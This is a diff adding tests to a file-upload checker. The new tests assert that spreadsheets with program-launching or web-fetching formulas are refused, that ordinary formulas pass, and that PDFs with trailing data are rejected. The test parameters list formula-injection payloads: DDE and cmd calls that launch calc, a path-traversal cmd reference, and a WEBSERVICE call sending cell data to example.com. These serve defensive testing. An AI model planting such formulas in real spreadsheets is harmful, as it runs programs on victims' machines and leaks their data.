@@ -134,3 +134,28 @@ def test_ordinary_files_with_ordinary_properties_and_their_own_dates_pass():
 
     assert check_bytes("Cluster plan (final).pdf", _pdf_with(ordinary_pdf)).extension == ".pdf"
     assert check_bytes("plan.docx", files.docx()).extension == ".docx"
+
+
+@pytest.mark.parametrize("formula", ["=cmd|' /C calc'!A0", '=WEBSERVICE("https://example.com/?"&A2)',
+                                     "=DDE(\"cmd\",\"/C calc\",\"x\")", '=msexcel|"\\..\\..\\..\\Windows\\System32\\cmd"!A0'])
+def test_a_spreadsheet_whose_formula_runs_a_program_or_fetches_a_page_is_refused(formula):
+    def change(book, sheet):
+        sheet["C2"] = formula
+
+    message = _refused("costs.xlsx", _workbook(change))
+    assert message.startswith("The selected file has a formula that runs a program or fetches a web page")
+
+
+def test_ordinary_formulas_pass():
+    def change(book, sheet):
+        sheet["B3"] = "=SUM(B2:B2)"
+        sheet["C3"] = '=IF(B3>1000,"Over","Under")'
+        sheet["D3"] = '=HYPERLINK("https://www.gov.uk","GOV.UK")'
+
+    assert check_bytes("costs.xlsx", _workbook(change)).extension == ".xlsx"
+
+
+def test_a_pdf_with_data_after_its_end_is_refused():
+    message = _refused("plan.pdf", files.pdf() + b"PK\x03\x04 hidden after the end")
+    assert message.startswith("The selected file has data after the end of the PDF")
+    assert check_bytes("plan.pdf", files.pdf() + b"\r\n\n").extension == ".pdf"  # line ends are not data
